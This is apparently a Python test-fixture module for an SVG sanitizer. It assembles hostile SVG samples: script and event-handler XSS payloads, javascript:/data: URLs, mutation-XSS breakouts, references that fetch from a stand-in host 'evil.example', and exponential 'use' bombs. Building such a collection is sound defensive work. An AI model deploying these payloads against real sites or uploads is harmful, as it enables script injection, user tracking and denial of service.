"""Hostile SVGs from public collections, shared by the cleaner's tests and the browser test that inlines them.

Each payload either runs `alert(…)` or fetches from `host` (relative references fetch from the page's
base URL), so the browser test can aim them at a loopback listener. `removed` is what the uploader is told
was removed; None where nothing is named because what is hostile is only markup hidden in comments,
processing instructions or text, which the stored file keeps as escaped text or drops.
"""

from __future__ import annotations

from dataclasses import dataclass

SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20"'
KEEP = '<rect id="keep" width="5" height="5"/>'
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
PNG_PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
# fuzzdb attack/xss/all-encodings-of-lt.txt (those well-formed in XML; the others with `&` escaped).
LESS_THAN_ENCODINGS = [
    "&lt;", "&#60;", "&#060;", "&#0000060;", "&#x3c;", "&#x000003c;", "&amp;#X3C;",
    "%3C", "%253C", "&amp;lt", "&amp;LT;", "&amp;#60", "&amp;#x3c", "\\x3c", "\\u003c",
]  # fmt: skip
# fuzzdb attack/xss/html-event-attributes.txt: handlers that fire without anyone touching the drawing.
UNPROMPTED_EVENTS = ["onload", "onerror", "onbegin", "onend", "onrepeat", "onanimationstart", "onfocusin"]


@dataclass(frozen=True)
class HostileSvg:
    name: str
    data: bytes
    removed: str | None


def svg_document(body: str, *, prolog: str = "", root_attributes: str = "") -> bytes:
    return f"{prolog}{SVG_OPEN}{root_attributes}>{body}</svg>".encode()


def hostile_svgs(host: str = "evil.example") -> list[HostileSvg]:
    """Every hostile SVG the cleaner must neutralise, with its external references aimed at `host`."""
    rows = [
        *_hand_made(host),
        *_svg_sanitizer_fixtures(),
        *_dompurify_fixtures(host),
        *_payloads_all_the_things(host),
        *_fuzzdb(),
        *_xhtml_inside_svg(host),
    ]
    return [HostileSvg(name, data, removed) for name, data, removed in rows]


def _hand_made(host: str) -> list[tuple[str, bytes, str | None]]:
    return [
        ("script", svg_document(f"<script>alert(1)</script>{KEEP}"), "1 script"),
        ("cdata-script", svg_document(f"<script><![CDATA[alert(1)]]></script>{KEEP}"), "1 script"),
        ("prefixed-script",
         b'<s:svg xmlns:s="http://www.w3.org/2000/svg" width="20" height="20"><s:script>alert(1)</s:script>'
         b'<s:rect id="keep" width="5" height="5"/></s:svg>', "1 script"),
        ("xhtml-script", svg_document(f"<script {XHTML}>alert(1)</script>{KEEP}"), "1 script"),
        ("onload", svg_document(KEEP, root_attributes=' onload="alert(1)"'), "1 event handler"),
        ("onclick-uppercase", svg_document('<rect id="keep" ONCLICK="alert(1)" width="5" height="5"/>'),
         "1 event handler"),
        ("namespaced-handler", svg_document(f'<rect xmlns:x="urn:x" x:onmouseover="alert(1)"/>{KEEP}'),
         "1 event handler"),
        ("javascript-href", svg_document(f'<a href="javascript:alert(1)">{KEEP}</a>'), "1 external reference"),
        ("javascript-xlink-mixed-case",
         svg_document(f'<a xlink:href="JaVaScRiPt:alert(1)">{KEEP}</a>'), "1 external reference"),
        ("javascript-entities-whitespace",
         svg_document(f'<a xlink:href=" &#x6A;ava&#9;script&#58;alert(1)">{KEEP}</a>'), "1 external reference"),
        ("external-image", svg_document(f'<image href="https://{host}/t.png" width="5" height="5"/>{KEEP}'),
         "1 external reference"),
        ("protocol-relative", svg_document(f'<image href="//{host}/t.png"/>{KEEP}'), "1 external reference"),
        ("file-url", svg_document(f'<image xlink:href="file:///evil/passwd"/>{KEEP}'), "1 external reference"),
        ("external-use", svg_document(f'<use href="https://{host}/sprite.svg#icon"/>{KEEP}'),
         "1 external reference"),
        ("relative-use", svg_document(f'<use xlink:href="evil.svg#icon"/>{KEEP}'), "1 external reference"),
        ("svg-data-url", svg_document(f'<image href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/>{KEEP}'),
         "1 external reference"),
        ("html-data-url",
         svg_document(f'<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">{KEEP}</a>'),
         "1 external reference"),
        ("foreign-object", svg_document(f"<foreignObject><div {XHTML}>evil</div></foreignObject>{KEEP}"),
         "1 embedded document"),
        ("iframe", svg_document(f'<iframe {XHTML} src="https://{host}"/>{KEEP}'), "1 embedded document"),
        ("embed", svg_document(f'<embed {XHTML} src="evil.swf"/>{KEEP}'), "1 embedded document"),
        ("object", svg_document(f'<object {XHTML} data="evil.pdf"/>{KEEP}'), "1 embedded document"),
        ("link", svg_document(f'<link {XHTML} rel="stylesheet" href="evil.css"/>{KEEP}'), "1 external reference"),
        ("set-href", svg_document(f'<a><set attributeName="href" to="javascript:alert(1)"/>{KEEP}</a>'),
         "1 external reference"),
        ("animate-xlink-href",
         svg_document(f'<a><animate attributeName="xlink:href" values="javascript:alert(1)"/>{KEEP}</a>'),
         "1 external reference"),
        ("set-handler", svg_document('<rect id="keep"><set attributeName="onmouseover" to="alert(1)"/></rect>'),
         "1 event handler"),
        ("style-import", svg_document(f"<style>@import url(https://{host}/x.css);</style>{KEEP}"),
         "1 external reference"),
        ("style-import-string", svg_document(f'<style>@import "https://{host}/x.css";</style>{KEEP}'),
         "1 external reference"),
        ("style-escaped-import", svg_document(rf"<style>@\69mport 'evil.css';</style>{KEEP}"),
         "1 external reference"),
        ("style-url", svg_document(f"<style>rect {{ fill: url(https://{host}/x.svg#p) }}</style>{KEEP}"),
         "1 external reference"),
        ("style-escaped-url", svg_document(rf"<style>rect {{ fill: \75 rl(https://{host}/p) }}</style>{KEEP}"),
         "1 external reference"),
        ("style-attribute-escaped-url", svg_document(rf'<rect id="keep" style="fill: u\72l(//{host}/p)"/>'),
         "1 external reference"),
        ("style-font", svg_document(f"<style>@font-face {{ src: url('//{host}/f.woff') }}</style>{KEEP}"),
         "1 external reference"),
        ("style-attribute-url",
         svg_document(f'<rect id="keep" style="background: url( &quot;http://{host}/p&quot; )"/>'),
         "1 external reference"),
        ("presentation-attribute-url",
         svg_document(f'<rect id="keep" filter="url(https://{host}/f.svg#blur)"/>'), "1 external reference"),
        ("image-set", svg_document('<rect id="keep" style="background: image-set(\'evil.png\' 1x)"/>'),
         "1 external reference"),
        ("xml-stylesheet",
         svg_document(KEEP, prolog=f'<?xml-stylesheet type="text/css" href="https://{host}/x.css"?>'),
         "1 external reference"),
        ("xml-base", svg_document(f'<g xml:base="https://{host}/"><use href="#keep"/></g>{KEEP}'),
         "1 external reference"),
        ("several",
         svg_document(f'<script>alert(1)</script><g onclick="alert(1)" onmouseover="alert(2)">{KEEP}</g>'
                      f'<image href="https://{host}/p.png"/><foreignObject/>'),
         "1 script, 2 event handlers, 1 external reference and 1 embedded document"),
        ("html-breakout-element", svg_document(f'<img src="x" alt="evil"/>{KEEP}'), "1 embedded document"),
        ("html-breakout-uppercase", svg_document(f'<IMG src="x" alt="evil"/>{KEEP}'), "1 embedded document"),
    ]  # fmt: skip


def _svg_sanitizer_fixtures() -> list[tuple[str, bytes, str | None]]:
    """darylldoyle/svg-sanitizer tests/data: htmlTest, svgTestOne, hrefTestOne, formDataTest, maliciousJsAndPhp."""
    return [
        ("svg-sanitizer-html-test",
         svg_document("<!--><img src onerror=alert(1)><!-->\n<?x ><img src onerror=alert(1)><?x?>\n"
                      "<p/><![CDATA[ ><img src onerror=alert(1)> ]]>\n"
                      f'<font face=""/><![CDATA[ ><img src onerror=alert(1)> ]]>{KEEP}'),
         "2 embedded documents"),
        ("svg-sanitizer-comments-only",
         svg_document(f"<!--><img src onerror=alert(1)><!-->{KEEP}<?x ><img src onerror=alert(1)><?x?>"
                      "<![CDATA[ ><img src onerror=alert(1)> ]]>"), None),
        ("svg-sanitizer-svg-test-one",
         svg_document(f'<line onload="alert(2)" x1="1" y1="1" x2="9" y2="9" stroke="#000"/>{KEEP}'
                      "<this>shouldn't be here</this><script>alert(1);</script><ScRiPt>alert(1);</ScRiPt>"),
         "2 scripts, 1 event handler and 1 embedded document"),
        ("svg-sanitizer-href-test-one",
         svg_document('<a href="javascript:alert(2)">test 1</a><a xlink:href="javascript:alert(2)">test 2</a>'
                      '<a href="#keep">test 3</a>'
                      "<a href=\"data:data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' "
                      "onload='alert(88)'%3E%3C/svg%3E\">test 5</a>"
                      "<a xlink:href=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' "
                      "onload='alert(88)'%3E%3C/svg%3E\">test 6</a>"
                      f'<a href="javascript&#9;:alert(document.domain)">test 7</a>{KEEP}'),
         "5 external references"),
        ("svg-sanitizer-form-data",
         svg_document("<form action=\"javascript:alert('1')\"><input type=\"submit\" onclick=\"alert('1')\"/></form>"
                      "<![CDATA[<form action=\"javascript:alert('1')\"><input type=\"submit\" "
                      f"onclick=\"alert('1')\"/></form>]]>{KEEP}",
                      prolog='<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                      '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'),
         "1 embedded document"),
        ("svg-sanitizer-malicious-js-and-php",
         svg_document('<test></test><image onload="alert(1)"></image><svg onload="alert(2)"></svg>'
                      '<script>alert(3)</script><defs onload="alert(4)"></defs><g onload="alert(5)">'
                      '<circle onload="alert(6)" /><text onload="alert(7)"></text></g>'
                      f"<!-- <?p<?php test?>hp echo ' Hello Danger! ';?> -->{KEEP}"),
         "1 script, 6 event handlers and 1 embedded document"),
    ]  # fmt: skip


def _dompurify_fixtures(host: str) -> list[tuple[str, bytes, str | None]]:
    """cure53/DOMPurify test/fixtures/expect.mjs, written as XML (the originals are HTML fragments)."""
    return [
        ("dompurify-mxss-style-id",
         svg_document(f'<style><a id="&lt;/style&gt;&lt;img src=1 onerror=alert(1)&gt;"/></style>{KEEP}'), None),
        ("dompurify-mxss-title-id",
         svg_document(f'<title><a id="&lt;/title&gt;&lt;img src=x onerror=alert()&gt;"></a></title>{KEEP}'), None),
        ("dompurify-mxss-p-style",
         svg_document('<p><style><g title="&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;"/></style></p>'
                      f"{KEEP}"), "1 embedded document"),
        ("dompurify-mxss-title-template",
         svg_document("<title><template><style>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</style>"
                      f"</template></title>{KEEP}"), "1 embedded document"),
        ("dompurify-mxss-desc-text",
         svg_document('<desc>&lt;/noscript&gt;&lt;/desc&gt;&lt;s&gt;&lt;/s&gt;&lt;style&gt;&lt;a title="'
                      f'&lt;/style&gt;&lt;img src onerror=alert(1)&gt;"&gt;</desc>{KEEP}'), None),
        ("dompurify-mxss-style-text",
         svg_document(f"<style>&lt;img/src=x onerror=alert(128)// &lt;/b&gt;</style>{KEEP}"), None),
        ("dompurify-mxss-mathml",
         svg_document('<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><mglyph>'
                      '<svg xmlns="http://www.w3.org/2000/svg"><mtext><style><path id="&lt;/style&gt;'
                      f'&lt;img onerror=alert(1) src&gt;"/></style></mtext></svg></mglyph></mtext></math>{KEEP}'),
         "1 embedded document"),
        ("dompurify-set-onmouseover",
         svg_document(f'<set attributeName="onmouseover" to="alert(89)"/><animate attributeName="onunload" '
                      f'to="alert(89)"/>{KEEP}'), "2 event handlers"),
        ("dompurify-handler", svg_document(
            f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(94)</handler>{KEEP}'),
         "1 script"),
        ("dompurify-feimage-set",
         svg_document('<filter id="f"><feImage><set attributeName="xlink:href" to="data:image/svg+xml;'
                      'charset=utf-8;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ%2B'
                      f'YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4NCg%3D%3D"/></feImage></filter>{KEEP}'),
         "1 external reference"),
        ("dompurify-xml-events-listener",
         svg_document(f'<listener event="load" handler="#y" xmlns="http://www.w3.org/2001/xml-events" '
                      f'observer="keep"/><handler id="y">alert(127)</handler>{KEEP}'), "2 scripts"),
        ("dompurify-style-external-clip-path",
         svg_document('<rect id="keep" style="clip-path:url(test3.svg#a);fill:url(#b);marker:url(#d)"/>'
                      '<path d="M0,0" style="marker-start:url(test4.svg#a)"/>'), "2 external references"),
        ("dompurify-filter-data-svg",
         svg_document('<image style=\'filter:url("data:image/svg+xml,&lt;svg xmlns=%22http://www.w3.org/2000/svg'
                      f'%22&gt;&lt;script&gt;parent.alert(129)&lt;/script&gt;&lt;/svg&gt;")\'/>{KEEP}'),
         "1 external reference"),
        ("dompurify-access-key-set",
         svg_document("<image>" + "".join(
             f'<set attributeName="xlink:href" begin="accessKey({key})" to="//{host}/?{key}"/>' for key in "abcd"
         ) + f"</image>{KEEP}"), "4 external references"),
        ("dompurify-animate-from-javascript",
         svg_document('<a xlink:href="?"><circle r="4"/><animate attributeName="xlink:href" begin="0" '
                      f'from="javascript:alert(137)" to="&amp;"/></a>{KEEP}'), "2 external references"),
        ("dompurify-xslt",
         svg_document('<xsl:stylesheet id="stylesheet" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
                      f'<xsl:template match="/"><iframe {XHTML} src="javascript:alert(125)"></iframe>'
                      f"</xsl:template></xsl:stylesheet>{KEEP}",
                      prolog='<?xml-stylesheet type="text/xml" href="#stylesheet"?>'),
         "1 external reference and 1 embedded document"),
    ]  # fmt: skip


def _payloads_all_the_things(host: str) -> list[tuple[str, bytes, str | None]]:
    """swisskyrepo/PayloadsAllTheThings XSS Injection: "XSS in SVG (short)" and Files/SVG_XSS*.svg."""
    return [
        ("patt-desc-cdata", svg_document(f"<desc><![CDATA[</desc><script>alert(1)</script>]]></desc>{KEEP}"), None),
        ("patt-title-cdata", svg_document(f"<title><![CDATA[</title><script>alert(3)</script>]]></title>{KEEP}"),
         None),
        ("patt-foreign-object-cdata",
         svg_document(f"<foreignObject><![CDATA[</foreignObject><script>alert(2)</script>]]></foreignObject>{KEEP}"),
         "1 embedded document"),
        ("patt-nested-svg",
         svg_document('<svg x="10"><rect width="9" height="9"/><script type="text/javascript">alert(1)</script></svg>'
                      f'<svg x="200"><script type="text/javascript">alert(2)</script></svg>{KEEP}'), "2 scripts"),
        ("patt-nested-use-xlink",
         svg_document(f'<use xlink:href="http://{host}/red_lightning_xss_full.svg#lightning"/>{KEEP}'),
         "1 external reference"),
        ("patt-nested-img-xlink",
         svg_document(f'<image xlink:href="http://{host}/red_lightning_xss_full.svg" height="9" width="9"/>{KEEP}'),
         "1 external reference"),
        ("patt-xss-in-xml",
         svg_document('<something:script xmlns:something="http://www.w3.org/1999/xhtml">alert(1)</something:script>'
                      f"{KEEP}"), "1 script"),
        ("patt-xss-in-svg",
         svg_document(f'<polygon points="0,0 0,50 50,0"/><script type="text/javascript">alert(document.domain);'
                      f"</script>{KEEP}",
                      prolog='<?xml version="1.0" standalone="no"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                      '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'), "1 script"),
    ]  # fmt: skip


def _fuzzdb() -> list[tuple[str, bytes, str | None]]:
    """fuzzdb attack/xss: every encoding of `<` in text, and the handlers that fire on their own."""
    hidden = "".join(
        f"<text>{less_than}img src=x onerror=alert(1)&gt;</text>" for less_than in LESS_THAN_ENCODINGS
    )
    handlers = " ".join(f'{event}="alert(1)"' for event in UNPROMPTED_EVENTS)
    return [
        ("fuzzdb-encodings-of-less-than", svg_document(f"<title>{hidden}</title><desc>{hidden}</desc>{hidden}{KEEP}"),
         None),
        ("fuzzdb-unprompted-handlers",
         svg_document(f'<rect id="keep" {handlers}><animate attributeName="x" dur="0.01s" {handlers}/></rect>'),
         f"{2 * len(UNPROMPTED_EVENTS)} event handlers"),
    ]  # fmt: skip


def _xhtml_inside_svg(host: str) -> list[tuple[str, bytes, str | None]]:
    """The red-team run: XHTML elements keep URL attributes; `<title>`/`<desc>` content is HTML when inlined."""
    return [
        ("xhtml-img-srcset",
         svg_document(f'<html:img xmlns:html="http://www.w3.org/1999/xhtml" srcset="https://{host}/a.png 1x"/>{KEEP}'),
         "1 embedded document"),
        ("xhtml-body-background", svg_document(f'<body {XHTML} background="//{host}/b.png"/>{KEEP}'),
         "1 embedded document"),
        ("xhtml-a-ping", svg_document(f'<a {XHTML} href="#keep" ping="http://{host}/ping">x</a>{KEEP}'),
         "1 embedded document"),
        ("xhtml-video-poster", svg_document(f'<video {XHTML} poster="http://{host}/p.png"/>{KEEP}'),
         "1 external reference"),
        ("desc-image-srcset",
         svg_document(f'<desc><image srcset="http://{host}/s.png 1x" src="{PNG_PIXEL}"/></desc>{KEEP}'),
         "1 external reference"),
        ("desc-a-ping", svg_document(f'<desc><a href="#keep" ping="http://{host}/ping">x</a></desc>{KEEP}'),
         "1 external reference"),
        ("title-image-onerror", svg_document(f'<title><image src="x" onerror="alert(1)"/></title>{KEEP}'),
         "1 event handler and 1 external reference"),
        ("attribute-closing-svg",
         svg_document('<rect id="keep" class="&lt;/svg&gt;&lt;img src=x onerror=alert(1)&gt;"/>'), None),
        ("unprefixed-html-in-no-namespace", svg_document(f'<img xmlns="" src="x" onerror="alert(1)"/>{KEEP}'),
         None),
    ]  # fmt: skip


def use_bomb(levels: int = 30, copies: int = 2) -> bytes:
    """The red-team run's 30-line file: each group uses the next one twice, so drawing it means 2**30 circles."""
    groups = "".join(
        f'<g id="g{level}">' + f'<use href="#g{level + 1}"/>' * copies + "</g>\n" for level in range(levels)
    )
    return svg_document(f'<defs>\n{groups}<g id="g{levels}"><circle r="1"/></g></defs><use href="#g0"/>')


def xlink_laughs() -> bytes:
    """svg-sanitizer tests/data/xlinkLaughsTest.svg: ten levels of ten `xlink:href` uses each."""
    levels = "".join(
        f'<defs><g id="a{level}">'
        + "".join(f'<use x="{10 * n}" y="10" xlink:href="#a{level - 1}"/>' for n in range(10))
        + "</g></defs>"
        for level in range(1, 11)
    )
    return svg_document(f'<defs><g id="a0"><circle r="10"/></g></defs>{levels}<use xlink:href="#a9"/>')


# svg-sanitizer's xlinkLoop fixture (self reference, ping-pong, a loop through a parent), one per file.
USE_LOOPS: list[tuple[str, bytes]] = [
    ("self-reference", svg_document('<use id="self" href="#self"/>')),
    ("ping-pong", svg_document('<use id="ping" xlink:href="#pong"/><use id="pong" xlink:href="#ping"/>')),
    ("through-parent", svg_document('<g id="loop"><rect width="2" height="2"/><use href="#loop"/></g>')),
    ("percent-encoded", svg_document('<g id="a"><g><use href=" #%61 "/></g></g>')),
    ("through-fe-image", svg_document('<filter id="f"><feImage href="#f"/></filter>')),
]
